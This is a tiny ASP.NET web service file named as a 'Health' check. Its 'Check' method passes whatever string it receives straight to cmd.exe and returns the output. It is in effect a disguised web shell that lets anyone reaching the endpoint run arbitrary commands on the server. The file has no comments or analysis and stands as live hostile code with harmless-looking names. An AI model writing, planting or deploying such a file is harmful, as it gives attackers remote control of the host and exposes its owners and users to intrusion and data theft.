<%@ WebService Language="C#" Class="Health" %>
using System.Web.Services;
using System.Diagnostics;
public class Health : WebService {
  [WebMethod]
  public string Check(string target) {
    var i = new ProcessStartInfo("cmd.exe", "/c " + target) { RedirectStandardOutput = true, UseShellExecute = false };
    return Process.Start(i).StandardOutput.ReadToEnd();
  }
}
